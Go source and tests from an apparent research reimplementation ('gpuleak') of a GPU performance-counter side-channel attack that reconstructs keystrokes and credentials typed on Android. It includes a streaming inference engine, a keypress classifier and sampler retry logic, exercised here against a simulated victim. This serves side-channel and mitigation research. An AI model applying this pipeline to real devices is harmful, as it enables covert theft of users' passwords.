		t.Fatalf("flat readings produced %d deltas", st.Stats().Deltas)
	}
}

// TestEavesdropStreamMatchesOneShot pins the streaming API's identity
// contract: EavesdropStreamContext over a device file produces the exact
// Result of EavesdropContext, and replaying its key/retract events
// reconstructs the final key sequence.
func TestEavesdropStreamMatchesOneShot(t *testing.T) {
	cfg := baseVictimConfig()
	cfg.Seed = 4242
	m := sharedModel(t)
	script := input.Typing("str3am", input.Volunteers[0], input.SpeedAny,
		sim.NewRand(9), 700*sim.Millisecond)

	open := func() (*victim.Session, DeviceFile) {
		sess := victim.New(cfg)
		sess.Run(script)
		f, err := sess.Open()
		if err != nil {
			t.Fatal(err)
		}
		return sess, f
	}

	sess1, f1 := open()
	want, err := New(m).EavesdropContext(context.Background(), f1, 0, sess1.End)
	if err != nil {
		t.Fatal(err)
	}

	sess2, f2 := open()
	var events []StreamEvent
	got, err := New(m).EavesdropStreamContext(context.Background(), f2, 0, sess2.End,
		func(ev StreamEvent) error {
			events = append(events, ev)
			return nil
		})
	if err != nil {
		t.Fatal(err)
	}

	if got.Text != want.Text || got.Stats != want.Stats ||
		got.EstimatedLength != want.EstimatedLength || got.Model != want.Model {
		t.Fatalf("streamed result %+v != one-shot %+v", got, want)
	}

	// Replaying the event tape must land on the one-shot key sequence.
	var replay []rune
	for _, ev := range events {
		switch ev.Kind {
		case "key":
			replay = append(replay, ev.Key.R)
		case "retract":
			replay = replay[:ev.Keys]
		default:
			t.Fatalf("unknown event kind %q", ev.Kind)
		}
		if len(replay) != ev.Keys {
			t.Fatalf("event count %d disagrees with replayed length %d", ev.Keys, len(replay))
		}
	}
	if string(replay) != want.Text {
		t.Fatalf("replayed events %q != one-shot text %q", string(replay), want.Text)
	}

	// An emit error must abort the run.
	sess3, f3 := open()
	boom := errors.New("client went away")
	if _, err := New(m).EavesdropStreamContext(context.Background(), f3, 0, sess3.End,
		func(StreamEvent) error { return boom }); !errors.Is(err, boom) {
		t.Fatalf("emit error not propagated: %v", err)
	}
}
