package attack

import (
	"testing"

	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/victim"
)

func TestStreamMatchesBatch(t *testing.T) {
	cfg := baseVictimConfig()
	cfg.Seed = 808
	m := sharedModel(t)
	sess := victim.New(cfg)
	sess.Run(input.Typing("streamed42", input.Volunteers[0], input.SpeedAny,
		sim.NewRand(3), 700*sim.Millisecond))
	f, err := sess.Open()
	if err != nil {
		t.Fatal(err)
	}
	smp, err := NewSampler(f, DefaultInterval)
	if err != nil {
		t.Fatal(err)
	}
	tr, err := smp.Collect(0, sess.End)
	if err != nil {
		t.Fatal(err)
	}

	batch, err := New(m).EavesdropTrace(tr)
	if err != nil {
		t.Fatal(err)
	}

	var live []rune
	st := NewStream(m, DefaultInterval, OnlineOptions{}, func(k InferredKey) {
		live = append(live, k.R)
	})
	for _, sample := range tr.Samples {
		st.Push(sample.At, sample.Values)
	}

	if st.Text() != batch.Text {
		t.Fatalf("stream %q != batch %q", st.Text(), batch.Text)
	}
	if string(live) != batch.Text {
		t.Fatalf("callback stream %q != batch %q", string(live), batch.Text)
	}
	if st.Stats() != batch.Stats {
		t.Fatalf("stream stats %+v != batch %+v", st.Stats(), batch.Stats)
	}
}

func TestStreamIgnoresFlatReadings(t *testing.T) {
	m := tinyModel()
	st := NewStream(m, 8*sim.Millisecond, OnlineOptions{}, nil)
	vals := [11]uint64{100, 100, 100, 100, 100, 100, 100, 100, 100, 100, 100}
	for i := 0; i < 10; i++ {
		st.Push(sim.Time(i)*8000, vals)
	}
	if st.Stats().Deltas != 0 {
		t.Fatalf("flat readings produced %d deltas", st.Stats().Deltas)
	}
}
