package attack

import (
	"gpuleak/internal/adreno"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// Stream is the incremental form of the online phase: the caller feeds
// counter readings as they arrive (e.g. from a timer loop inside the
// attacking service) and receives key-press events through a callback the
// moment they are inferred — the paper's real-time notification-bar
// display (artifact appendix A.6). It produces exactly the same inference
// as batch EavesdropTrace over the same readings.
type Stream struct {
	engine  *Engine
	onKey   func(InferredKey)
	last    [adreno.NumSelected]uint64
	haveRef bool
	emitted int
}

// NewStream builds a streaming inference session for one model. onKey may
// be nil; inferred keys are also retrievable via Keys/Text. Note that the
// §5 engine can retract keys (corrections, app-switch rollback), so
// callback consumers should treat events as provisional until Text() is
// read at the end.
func NewStream(m *Model, interval sim.Time, opts OnlineOptions, onKey func(InferredKey)) *Stream {
	return &Stream{
		engine: NewEngine(m, interval, opts),
		onKey:  onKey,
	}
}

// Push consumes one counter reading taken at time t.
func (s *Stream) Push(t sim.Time, values [adreno.NumSelected]uint64) {
	if !s.haveRef {
		s.last = values
		s.haveRef = true
		return
	}
	var d trace.Vec
	changed := false
	for i := range d {
		d[i] = float64(values[i]) - float64(s.last[i])
		if values[i] != s.last[i] {
			changed = true
		}
	}
	s.last = values
	if !changed {
		return
	}
	s.engine.Process(trace.Delta{At: t, V: d})
	if s.onKey != nil {
		keys := s.engine.Keys()
		for ; s.emitted < len(keys); s.emitted++ {
			s.onKey(keys[s.emitted])
		}
		if s.emitted > len(keys) {
			s.emitted = len(keys) // retraction happened
		}
	}
}

// Keys returns the keys inferred so far.
func (s *Stream) Keys() []InferredKey { return s.engine.Keys() }

// Text returns the credential inferred so far.
func (s *Stream) Text() string { return s.engine.Text() }

// Stats exposes the engine counters.
func (s *Stream) Stats() EngineStats { return s.engine.Stats() }
