package attack

import (
	"testing"

	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

func TestSegmentTraceMatchesOnlineOnCleanInput(t *testing.T) {
	m := tinyModel()
	ds := []trace.Delta{
		{At: ms(100), V: keyA()},
		{At: ms(400), V: keyB()},
		{At: ms(700), V: keyA()},
	}
	res := SegmentTrace(m, ds, 8*sim.Millisecond, OnlineOptions{})
	if text := keysText(res.Keys); text != "aba" {
		t.Fatalf("offline text = %q", text)
	}
	if res.Unexplained != 0 {
		t.Fatalf("unexplained = %d", res.Unexplained)
	}
}

func keysText(ks []InferredKey) string {
	rs := make([]rune, len(ks))
	for i, k := range ks {
		rs[i] = k.R
	}
	return string(rs)
}

// The paper's greedy failure mode: a noise fragment right before a split
// key press. The greedy engine may pair the noise fragment with the first
// key fragment; the whole-trace DP finds the segmentation that explains
// all three.
func TestSegmentTraceFixesGreedyPairing(t *testing.T) {
	m := tinyModel()
	var noiseFrag trace.Vec
	noiseFrag[0], noiseFrag[1], noiseFrag[2], noiseFrag[3] = 45, 17, 4, 450 // hide fragment (half)
	half := keyA().Scale(0.5)
	ds := []trace.Delta{
		{At: ms(100), V: noiseFrag},
		{At: ms(108), V: noiseFrag}, // together: the hide signature
		{At: ms(116), V: half},
		{At: ms(124), V: half}, // together: key 'a'
	}
	res := SegmentTrace(m, ds, 8*sim.Millisecond, OnlineOptions{})
	if text := keysText(res.Keys); text != "a" {
		t.Fatalf("offline text = %q, want \"a\"", text)
	}
}

func TestSegmentTraceCountsResidualNoise(t *testing.T) {
	m := tinyModel()
	var junk trace.Vec
	junk[0], junk[3] = 9999, 123456
	ds := []trace.Delta{
		{At: ms(100), V: keyA()},
		{At: ms(500), V: junk},
	}
	res := SegmentTrace(m, ds, 8*sim.Millisecond, OnlineOptions{})
	if text := keysText(res.Keys); text != "a" {
		t.Fatalf("text = %q", text)
	}
	if res.Unexplained != 1 {
		t.Fatalf("unexplained = %d, want 1", res.Unexplained)
	}
}

func TestSegmentTraceNoDuplicateFromPass2(t *testing.T) {
	// A split key handled by the greedy pass must not be re-inferred by
	// pass 2 from its leftover first fragment.
	m := tinyModel()
	half := keyA().Scale(0.5)
	ds := []trace.Delta{
		{At: ms(100), V: half},
		{At: ms(108), V: half},
		{At: ms(500), V: keyB()},
	}
	res := SegmentTrace(m, ds, 8*sim.Millisecond, OnlineOptions{})
	if text := keysText(res.Keys); text != "ab" {
		t.Fatalf("text = %q, want \"ab\"", text)
	}
}

func TestSegmentClusterBailsOnStorms(t *testing.T) {
	m := tinyModel()
	var ds []trace.Delta
	var junk trace.Vec
	junk[0], junk[3] = 7777, 54321
	for i := 0; i < 30; i++ {
		ds = append(ds, trace.Delta{At: ms(100 + int64(i)*4), V: junk})
	}
	res := SegmentTrace(m, ds, 8*sim.Millisecond, OnlineOptions{DisableSwitchDetect: true})
	if len(res.Keys) != 0 {
		t.Fatalf("storm produced keys: %q", keysText(res.Keys))
	}
	if res.Unexplained == 0 {
		t.Fatal("storm not reported as unexplained")
	}
}
