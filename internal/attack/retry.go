package attack

import (
	"errors"
	"fmt"

	"gpuleak/internal/adreno"
	"gpuleak/internal/fault"
	"gpuleak/internal/sim"
)

// Probe is the channel surface the attack pipeline samples through: the
// two calls the sampler issues per polling tick, on any registered side
// channel. It matches channel.Probe; *kgsl.File, *fault.File and
// *proccount.Probe all satisfy it structurally.
type Probe interface {
	ReserveSelected(t sim.Time) error
	ReadSelected(t sim.Time) ([adreno.NumSelected]uint64, error)
}

// DeviceFile is the KGSL-shaped superset of Probe: the device surface of
// the original channel, with the raw ioctl entry point the §9 mitigation
// experiments drive directly. *kgsl.File satisfies it directly;
// *fault.File satisfies it with a fault plane in between. The generic
// pipeline needs only the Probe subset.
type DeviceFile interface {
	Ioctl(t sim.Time, request uint32, arg any) error
	Probe
}

// TickFaults is the optional clock-perturbation surface of a device
// plane: before each poll the sampler asks whether this tick is dropped
// (the monitoring process lost the CPU for the whole interval) or lands
// late by delay. The sampler type-asserts its DeviceFile for this —
// *fault.File implements it; a bare *kgsl.File does not, and pays
// nothing.
type TickFaults interface {
	TickFault(tick int, t sim.Time) (delay sim.Time, drop bool)
}

// SampleError reports a device-plane failure during sampling, wrapping
// the kgsl sentinel so callers can classify it with errors.Is/errors.As
// instead of string matching. It is the only error type the sampler
// returns for device failures.
type SampleError struct {
	// At is the simulated time of the failing operation.
	At sim.Time
	// Op is what failed: "read" (PERFCOUNTER_READ) or "reserve"
	// (PERFCOUNTER_GET).
	Op string
	// Attempts is how many times the operation was tried, including
	// retries, before giving up.
	Attempts int
	// Err is the underlying driver error (a kgsl sentinel, possibly
	// wrapped).
	Err error
}

// Error renders the failure with its operation, time and attempt count.
func (e *SampleError) Error() string {
	if e.Attempts > 1 {
		return fmt.Sprintf("attack: %s at %v failed after %d attempts: %v",
			e.Op, e.At, e.Attempts, e.Err)
	}
	return fmt.Sprintf("attack: %s at %v failed: %v", e.Op, e.At, e.Err)
}

// Unwrap exposes the driver error to errors.Is/errors.As.
func (e *SampleError) Unwrap() error { return e.Err }

// Retryable reports whether the wrapped driver error is in the transient
// family (EBUSY, EINVAL, lost reservation, transient closure) — the
// errors a RetryPolicy recovers from. Permission errors (EPERM, EACCES:
// an active mitigation) and protocol errors are fatal.
func (e *SampleError) Retryable() bool { return Retryable(e.Err) }

// Retryable classifies a driver error as transient under the default
// (KGSL) taxonomy. It is sentinel-based (errors.Is), never string-based:
// ErrBusy, ErrInval, ErrNotReserved and ErrClosed are the transient
// family a real KGSL consumer sees under contention, and ErrWrappedRead
// clears on re-read; everything else is fatal. Channel-aware callers use
// RetryableIn with the channel's own taxonomy instead.
func Retryable(err error) bool {
	return RetryableIn(err, fault.Taxonomy{})
}

// RetryableIn classifies a driver error as transient under a channel's
// error taxonomy (an invalid/zero taxonomy means KGSL, the default
// channel). ErrWrappedRead is retryable on every channel: cumulative
// counters clearing on re-read is a property of the sampler, not the
// driver.
func RetryableIn(err error, tax fault.Taxonomy) bool {
	if !tax.Valid() {
		tax = fault.KGSL()
	}
	return tax.Retryable(err) || errors.Is(err, ErrWrappedRead)
}

// RetryPolicy bounds how hard the sampler fights transient device
// errors. All waits are sim-time: backoff advances the simulated clock
// deterministically and never sleeps a wall clock, so retried runs
// replay bit-identically.
//
// The zero value disables retrying — any device error is fatal, the
// pre-fault-plane behavior. DefaultRetryPolicy is tuned to absorb every
// predefined fault profile.
type RetryPolicy struct {
	// MaxAttempts is the per-operation attempt budget (first try
	// included). 0 disables retrying entirely.
	MaxAttempts int
	// Backoff is the wait before the first retry; each further retry
	// multiplies it by BackoffFactor (default 2) up to MaxBackoff.
	Backoff       sim.Time
	BackoffFactor int
	MaxBackoff    sim.Time
	// MaxBadTicks bounds how many consecutive polling ticks may fail
	// (after per-tick retries) before the collection is abandoned as
	// fatal; a failed tick within the budget becomes a trace gap instead.
	MaxBadTicks int
	// WrapCheck re-reads when a counter value regresses below its
	// previous sample — the signature of a saturated/wrapped 32-bit
	// register read. Opt-in because heavy CPU-load scenarios legitimately
	// reorder effective read times (kgsl.Device.ReadLatency), which a
	// wrap check would misfire on.
	WrapCheck bool
}

// DefaultRetryPolicy returns the policy the serving layer and the chaos
// experiments use: 4 attempts per operation with 250 µs → 2 ms
// exponential backoff, up to 32 consecutive bad ticks, wrap re-reads on.
func DefaultRetryPolicy() RetryPolicy {
	return RetryPolicy{
		MaxAttempts:   4,
		Backoff:       250 * sim.Microsecond,
		BackoffFactor: 2,
		MaxBackoff:    2 * sim.Millisecond,
		MaxBadTicks:   32,
		WrapCheck:     true,
	}
}

// Enabled reports whether the policy retries at all.
func (p RetryPolicy) Enabled() bool { return p.MaxAttempts > 0 }

// BackoffAt returns the sim-time wait before retry number retry (0 is
// the wait after the first failure): Backoff·BackoffFactor^retry, capped
// at MaxBackoff.
func (p RetryPolicy) BackoffAt(retry int) sim.Time {
	w := p.Backoff
	if w <= 0 {
		w = 250 * sim.Microsecond
	}
	factor := p.BackoffFactor
	if factor < 2 {
		factor = 2
	}
	max := p.MaxBackoff
	if max <= 0 {
		max = 2 * sim.Millisecond
	}
	for i := 0; i < retry; i++ {
		w *= sim.Time(factor)
		if w >= max {
			return max
		}
	}
	if w > max {
		w = max
	}
	return w
}

// CollectStats counts the recovery work one collection performed. All
// counters are zero in a faultless run; any nonzero counter marks the
// resulting trace — and everything inferred from it — as degraded.
type CollectStats struct {
	// Ticks is the number of polling ticks scheduled.
	Ticks int `json:"ticks,omitempty"`
	// Retries counts read retries after transient errors.
	Retries int `json:"retries,omitempty"`
	// ReReservations counts successful PERFCOUNTER_GET re-reservations
	// after a mid-session revocation.
	ReReservations int `json:"rereservations,omitempty"`
	// DroppedTicks counts ticks abandoned (retry budget exhausted or the
	// fault plane dropped them); each becomes a gap in the trace.
	DroppedTicks int `json:"dropped_ticks,omitempty"`
	// WrappedRetries counts re-reads triggered by the wrap check.
	WrappedRetries int `json:"wrapped_retries,omitempty"`
}

// Degraded reports whether any recovery machinery fired: the trace is
// complete and exact only when this is false.
func (s CollectStats) Degraded() bool {
	return s.Retries > 0 || s.ReReservations > 0 || s.DroppedTicks > 0 || s.WrappedRetries > 0
}

// Add accumulates another stats block into s.
func (s *CollectStats) Add(o CollectStats) {
	s.Ticks += o.Ticks
	s.Retries += o.Retries
	s.ReReservations += o.ReReservations
	s.DroppedTicks += o.DroppedTicks
	s.WrappedRetries += o.WrappedRetries
}
