// Package attack implements the paper's primary contribution: the GPU
// performance counter eavesdropping attack. It contains the counter
// sampler (§4), the offline-phase collector and classifier construction
// (§3.2), the online inference engine with duplication/split/noise
// handling (Algorithm 1, §5.1), app-switch detection (§5.2), input
// correction tracking (§5.3), and device/configuration recognition (§3.2).
package attack

import (
	"encoding/json"
	"fmt"
	"io"
	"math"
	"sort"
	"sync"

	"gpuleak/internal/trace"
)

// ModelKey identifies the device configuration a classifier was trained
// for: one classification model is built per (device, resolution,
// keyboard) combination and preloaded into the attacking app (§3.2).
type ModelKey struct {
	Device     string `json:"device"`
	Resolution string `json:"resolution"`
	Keyboard   string `json:"keyboard"`
	RefreshHz  int    `json:"refresh_hz"`
	// Channel tags the side channel the model was trained on. The default
	// (KGSL) channel is canonically the empty string, so models — and
	// their serialized JSON — from before the channel plane existed are
	// identical to KGSL models trained today.
	Channel string `json:"channel,omitempty"`
}

func (k ModelKey) String() string {
	s := fmt.Sprintf("%s/%s/%s@%d", k.Device, k.Resolution, k.Keyboard, k.RefreshHz)
	if k.Channel != "" {
		s += ":" + k.Channel
	}
	return s
}

// NoiseClass labels the non-keypress delta families the offline phase
// learns so the online classifier can reject them (§5.1: the models are
// used "to distinguish between GPU hardware events caused by key presses
// and other system factors").
type NoiseClass string

// Noise families observed during offline collection.
const (
	NoisePopupHide  NoiseClass = "popup-hide"
	NoiseEcho       NoiseClass = "echo"
	NoiseBlink      NoiseClass = "cursor-blink"
	NoisePageSwitch NoiseClass = "page-switch"
	NoiseNotif      NoiseClass = "notification"
	NoiseLaunch     NoiseClass = "app-launch"
)

// NoiseCentroid is one learned non-key delta signature.
type NoiseCentroid struct {
	Class NoiseClass `json:"class"`
	V     trace.Vec  `json:"v"`
}

// Model is the per-configuration classifier: nearest-centroid over the
// 11-dimensional delta space with a rejection threshold Cth, plus learned
// noise signatures and the launch fingerprint used for device recognition.
type Model struct {
	Key ModelKey `json:"key"`
	// Keys maps each typable rune to its popup delta centroid.
	Keys map[string]trace.Vec `json:"keys"`
	// Noise holds non-key delta centroids (popup-hide, echo, blink, ...).
	Noise []NoiseCentroid `json:"noise"`
	// Weights normalize each counter dimension before distance
	// computation (1/scale per dimension).
	Weights trace.Vec `json:"weights"`
	// Cth is the classification threshold of §5.1: deltas farther than Cth
	// from every key centroid are not key presses.
	Cth float64 `json:"cth"`
	// NoiseTol is the acceptance bound for noise centroids. Non-key UI
	// events are deterministic redraws, so observed noise deltas match
	// their learned signatures near-exactly; a tight bound prevents split
	// fragments from being swallowed as noise.
	NoiseTol float64 `json:"noise_tol"`
	// Launch is the app-launch frame fingerprint for device recognition.
	Launch trace.Vec `json:"launch"`

	// noiseByDim0 indexes noise centroids by their first weighted
	// dimension for the denoising fast path (rebuilt lazily after
	// deserialization); indexOnce makes the lazy build safe under
	// concurrent classification.
	indexOnce   sync.Once
	noiseByDim0 []noiseEntry
}

type noiseEntry struct {
	key0 float64
	v    trace.Vec
}

// Verdict is the outcome of classifying one delta.
type Verdict struct {
	IsKey bool
	R     rune
	Dist  float64
	// Alt is the runner-up key and AltDist its distance; the gap to Dist
	// is the classification margin the §7.1 guessing strategy exploits.
	Alt     rune
	AltDist float64
	// Noise is set when the delta matched a learned noise family.
	Noise   NoiseClass
	IsNoise bool
}

// Classify decides whether v is a key press, a known noise event, or
// unknown. The model's weights are 1/sigma per counter dimension, so
// weighted Euclidean distance is measured in observation-noise standard
// deviations; the thresholds Cth and NoiseTol are in those units. A key
// press requires the nearest key centroid to be (a) within Cth, (b)
// markedly closer than the second-nearest key (a ratio test —
// perturbations from coinciding system events must not flip the
// decision), and (c) at least as close as any noise centroid. A delta is
// noise when a noise centroid matches within NoiseTol. Everything else
// is unknown (typically a fragment of a split change).
func (m *Model) Classify(v trace.Vec) Verdict {
	bestKey, altKey, d1, d2 := rune(0), rune(0), math.Inf(1), math.Inf(1)
	for s, c := range m.Keys {
		r := firstRune(s)
		d := v.Dist(c, m.Weights)
		// Exact distance ties break toward the smaller rune: on narrow
		// channels whole key families share a centroid, and Go's random
		// map order must never decide the verdict.
		if d < d1 || (d <= d1 && r < bestKey) {
			d2 = d1
			altKey = bestKey
			d1 = d
			bestKey = r
		} else if d < d2 || (d <= d2 && r < altKey) {
			d2 = d
			altKey = r
		}
	}
	bestNoise, bestNoiseDist := NoiseClass(""), math.Inf(1)
	for _, n := range m.Noise {
		d := v.Dist(n.V, m.Weights)
		if d < bestNoiseDist {
			bestNoiseDist = d
			bestNoise = n.Class
		}
	}
	if d1 <= m.Cth && d1 <= 0.65*d2 && d1 <= bestNoiseDist {
		return Verdict{IsKey: true, R: bestKey, Dist: d1, Alt: altKey, AltDist: d2}
	}
	if bestNoiseDist <= m.noiseTol() && bestNoiseDist <= d1 {
		return Verdict{IsNoise: true, Noise: bestNoise, Dist: bestNoiseDist}
	}
	return Verdict{Dist: math.Min(d1, bestNoiseDist)}
}

// ClassifyDenoised extends Classify for deltas in which a key press
// merged with a system event inside one sampling window: it retries the
// classification after subtracting each learned noise signature and
// accepts the best resulting key verdict. Only key verdicts are promoted
// this way — declaring compound noise from a subtraction would swallow
// split key fragments. A component of a merged delta cannot be larger
// than the delta itself, so noise centroids above the observation's
// magnitude are skipped, keeping the fallback within the paper's §7.6
// sub-0.1 ms inference budget.
func (m *Model) ClassifyDenoised(v trace.Vec) Verdict {
	out := m.Classify(v)
	if out.IsKey || out.IsNoise {
		return out
	}
	m.buildNoiseIndex()
	bestKey, d1, d2 := rune(0), math.Inf(1), math.Inf(1)
	for s, c := range m.Keys {
		r := firstRune(s)
		d := m.nearestNoiseTo(v.Sub(c))
		if d < d1 || (d <= d1 && r < bestKey) {
			d2 = d1
			d1 = d
			bestKey = r
		} else if d < d2 {
			d2 = d
		}
	}
	if d1 <= m.Cth && d1 <= 0.65*d2 {
		return Verdict{IsKey: true, R: bestKey, Dist: d1}
	}
	return out
}

// buildNoiseIndex sorts noise centroids by their first weighted dimension
// so residual lookups can window instead of scanning. Safe for concurrent
// callers.
func (m *Model) buildNoiseIndex() {
	m.indexOnce.Do(func() {
		w0 := m.Weights[0]
		if w0 <= 0 {
			w0 = 1
		}
		idx := make([]noiseEntry, 0, len(m.Noise))
		for _, n := range m.Noise {
			idx = append(idx, noiseEntry{key0: n.V[0] * w0, v: n.V})
		}
		sort.Slice(idx, func(i, j int) bool { return idx[i].key0 < idx[j].key0 })
		m.noiseByDim0 = idx
	})
}

// nearestNoiseTo returns the distance from r to the nearest noise
// centroid, bounded by Cth: entries whose first weighted dimension is
// already farther than the current bound cannot beat it (per-dimension
// distance lower-bounds the Euclidean distance).
func (m *Model) nearestNoiseTo(r trace.Vec) float64 {
	w0 := m.Weights[0]
	if w0 <= 0 {
		w0 = 1
	}
	target := r[0] * w0
	idx := sort.Search(len(m.noiseByDim0), func(i int) bool {
		return m.noiseByDim0[i].key0 >= target
	})
	best := m.Cth + 1
	// Expand outward from the insertion point until dim-0 alone exceeds
	// the best bound.
	lo, hi := idx-1, idx
	for {
		advanced := false
		if hi < len(m.noiseByDim0) && m.noiseByDim0[hi].key0-target <= best {
			if d := r.Dist(m.noiseByDim0[hi].v, m.Weights); d < best {
				best = d
			}
			hi++
			advanced = true
		}
		if lo >= 0 && target-m.noiseByDim0[lo].key0 <= best {
			if d := r.Dist(m.noiseByDim0[lo].v, m.Weights); d < best {
				best = d
			}
			lo--
			advanced = true
		}
		if !advanced {
			break
		}
	}
	return best
}

// Clone returns an independent copy of the model (exported state only;
// lazy caches rebuild on demand). Use it to derive ablation variants with
// modified thresholds or weights.
func (m *Model) Clone() *Model {
	out := &Model{
		Key:      m.Key,
		Keys:     make(map[string]trace.Vec, len(m.Keys)),
		Noise:    append([]NoiseCentroid(nil), m.Noise...),
		Weights:  m.Weights,
		Cth:      m.Cth,
		NoiseTol: m.NoiseTol,
		Launch:   m.Launch,
	}
	for k, v := range m.Keys {
		out.Keys[k] = v
	}
	return out
}

// noiseTol returns the noise acceptance bound, with a fallback for models
// serialized before the field existed.
func (m *Model) noiseTol() float64 {
	if m.NoiseTol > 0 {
		return m.NoiseTol
	}
	return m.Cth / 3
}

// KeyNormMax returns the largest weighted norm among key centroids — the
// magnitude, in noise-sigma units, of the biggest per-key delta this
// configuration produces. Useful for sizing obfuscation amplitudes.
func (m *Model) KeyNormMax() float64 {
	max := 0.0
	for _, c := range m.Keys {
		if n := c.Norm(m.Weights); n > max {
			max = n
		}
	}
	return max
}

// MinInterKeyDistance returns the smallest pairwise weighted distance
// between key centroids — the resolution limit of the side channel on
// this configuration.
func (m *Model) MinInterKeyDistance() float64 {
	names := make([]string, 0, len(m.Keys))
	for s := range m.Keys {
		names = append(names, s)
	}
	sort.Strings(names)
	min := math.Inf(1)
	for i := 0; i < len(names); i++ {
		for j := i + 1; j < len(names); j++ {
			if d := m.Keys[names[i]].Dist(m.Keys[names[j]], m.Weights); d < min {
				min = d
			}
		}
	}
	return min
}

// Runes lists the typable runes the model knows, sorted.
func (m *Model) Runes() []rune {
	out := make([]rune, 0, len(m.Keys))
	for s := range m.Keys {
		out = append(out, firstRune(s))
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

func firstRune(s string) rune {
	for _, r := range s {
		return r
	}
	return 0
}

// WriteJSON serializes the model (§7.6 reports ~3.59 kB per model).
func (m *Model) WriteJSON(w io.Writer) error {
	enc := json.NewEncoder(w)
	return enc.Encode(m)
}

// ReadModel deserializes a model written by WriteJSON.
func ReadModel(r io.Reader) (*Model, error) {
	var m Model
	if err := json.NewDecoder(r).Decode(&m); err != nil {
		return nil, fmt.Errorf("attack: decoding model: %w", err)
	}
	if len(m.Keys) == 0 {
		return nil, fmt.Errorf("attack: model has no key centroids")
	}
	return &m, nil
}
