package attack

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/sim"
)

// TestBackoffAt pins the sim-time backoff schedule: exponential from
// Backoff by BackoffFactor, capped at MaxBackoff, with zero fields
// falling back to the documented defaults. Every wait is a sim.Time —
// the schedule never touches a wall clock.
func TestBackoffAt(t *testing.T) {
	def := DefaultRetryPolicy()
	custom := RetryPolicy{
		MaxAttempts: 5, Backoff: 100 * sim.Microsecond,
		BackoffFactor: 3, MaxBackoff: sim.Millisecond,
	}
	cases := []struct {
		name   string
		policy RetryPolicy
		retry  int
		want   sim.Time
	}{
		{"default first", def, 0, 250 * sim.Microsecond},
		{"default doubles", def, 1, 500 * sim.Microsecond},
		{"default doubles again", def, 2, sim.Millisecond},
		{"default hits cap", def, 3, 2 * sim.Millisecond},
		{"default stays capped", def, 10, 2 * sim.Millisecond},
		{"zero policy defaults first", RetryPolicy{}, 0, 250 * sim.Microsecond},
		{"zero policy defaults cap", RetryPolicy{}, 7, 2 * sim.Millisecond},
		{"custom factor first", custom, 0, 100 * sim.Microsecond},
		{"custom factor triples", custom, 1, 300 * sim.Microsecond},
		{"custom factor triples again", custom, 2, 900 * sim.Microsecond},
		{"custom factor capped", custom, 3, sim.Millisecond},
	}
	for _, tc := range cases {
		if got := tc.policy.BackoffAt(tc.retry); got != tc.want {
			t.Errorf("%s: BackoffAt(%d) = %v, want %v", tc.name, tc.retry, got, tc.want)
		}
	}
}

func TestRetryableClassification(t *testing.T) {
	cases := []struct {
		err  error
		want bool
	}{
		{kgsl.ErrBusy, true},
		{kgsl.ErrInval, true},
		{kgsl.ErrNotReserved, true},
		{kgsl.ErrClosed, true},
		{ErrWrappedRead, true},
		{fmt.Errorf("reserving: %w", kgsl.ErrBusy), true},
		{kgsl.ErrPerm, false},
		{kgsl.ErrNoEnt, false},
		{errors.New("attack: device busy"), false}, // looks transient, isn't a sentinel
		{nil, false},
	}
	for _, tc := range cases {
		if got := Retryable(tc.err); got != tc.want {
			t.Errorf("Retryable(%v) = %v, want %v", tc.err, got, tc.want)
		}
	}
}

func TestSampleError(t *testing.T) {
	se := &SampleError{At: 8 * sim.Millisecond, Op: "read", Attempts: 4, Err: kgsl.ErrBusy}
	if !errors.Is(se, kgsl.ErrBusy) {
		t.Error("SampleError does not unwrap to its kgsl sentinel")
	}
	if !se.Retryable() {
		t.Error("EBUSY SampleError not classified retryable")
	}
	if msg := se.Error(); !strings.Contains(msg, "4 attempts") {
		t.Errorf("multi-attempt message %q does not report the attempt count", msg)
	}
	one := &SampleError{At: 0, Op: "reserve", Attempts: 1, Err: kgsl.ErrPerm}
	if one.Retryable() {
		t.Error("EPERM SampleError classified retryable")
	}
	if msg := one.Error(); strings.Contains(msg, "attempts") {
		t.Errorf("single-attempt message %q mentions attempts", msg)
	}
}

// flakyFile is a scripted DeviceFile for retry tests: reads fail with
// failErr while the script says so, reservations are tracked so
// revocation recovery is observable.
type flakyFile struct {
	reads       int
	failReads   map[int]error // read index -> injected error
	revokeAt    int           // read index that revokes (0 = never)
	reserved    bool
	reserves    int
	failReserve error
	val         uint64
}

func (f *flakyFile) Ioctl(t sim.Time, request uint32, arg any) error { return nil }

func (f *flakyFile) ReserveSelected(t sim.Time) error {
	f.reserves++
	if f.failReserve != nil {
		return f.failReserve
	}
	f.reserved = true
	return nil
}

func (f *flakyFile) ReadSelected(t sim.Time) ([adreno.NumSelected]uint64, error) {
	i := f.reads
	f.reads++
	var zero [adreno.NumSelected]uint64
	if f.revokeAt > 0 && i == f.revokeAt {
		f.reserved = false
	}
	if !f.reserved {
		return zero, kgsl.ErrNotReserved
	}
	if err := f.failReads[i]; err != nil {
		return zero, err
	}
	var v [adreno.NumSelected]uint64
	for j := range v {
		f.val++
		v[j] = f.val
	}
	return v, nil
}

// TestSamplerRetriesTransientErrors pins in-tick recovery: transient
// EBUSY reads are retried with backoff inside the tick budget and the
// collected trace has no gaps.
func TestSamplerRetriesTransientErrors(t *testing.T) {
	f := &flakyFile{failReads: map[int]error{
		1: kgsl.ErrBusy, // second tick, two transient failures in a row
		2: kgsl.ErrBusy,
		7: kgsl.ErrInval,
	}}
	s, err := NewSamplerRetry(f, DefaultInterval, DefaultRetryPolicy())
	if err != nil {
		t.Fatal(err)
	}
	tr, err := s.Collect(0, 80*sim.Millisecond)
	if err != nil {
		t.Fatalf("collect with retries: %v", err)
	}
	if s.Stats.Retries != 3 {
		t.Errorf("Stats.Retries = %d, want 3", s.Stats.Retries)
	}
	if s.Stats.DroppedTicks != 0 {
		t.Errorf("Stats.DroppedTicks = %d, want 0 (all retries within budget)", s.Stats.DroppedTicks)
	}
	if tr.Len() != s.Stats.Ticks {
		t.Errorf("trace has %d samples for %d ticks", tr.Len(), s.Stats.Ticks)
	}
	if !s.Stats.Degraded() {
		t.Error("a retried collection must report Degraded")
	}
}

// TestSamplerReReservesAfterRevocation pins the ErrNotReserved path: the
// sampler re-issues PERFCOUNTER_GET and resumes reading.
func TestSamplerReReservesAfterRevocation(t *testing.T) {
